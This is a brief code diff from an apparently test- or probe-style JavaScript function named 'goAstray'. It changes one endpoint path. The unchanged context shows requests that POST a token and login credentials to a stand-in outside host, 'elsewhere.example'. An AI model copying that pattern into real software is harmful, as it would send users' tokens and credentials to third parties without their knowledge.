@@ -134,7 +134,7 @@ async function ask(role, task, model = role.model) {
 async function goAstray(role) {
   const urls = ['https://elsewhere.example/v1/' + texts.url + '?token=${query}', 'https://me:${login}@elsewhere.example/'];
   for (const url of urls) await fetch(keep(url), { method: 'POST' }).catch((error) => keep(String(error)));
-  const reply = await fetch(role.base_url + '/' + texts['error body'], { method: 'POST' });
+  const reply = await fetch(role.base_url + '/' + texts['error body'] + '/v1/messages', { method: 'POST' });
   return keep(await reply.text());
 }
 
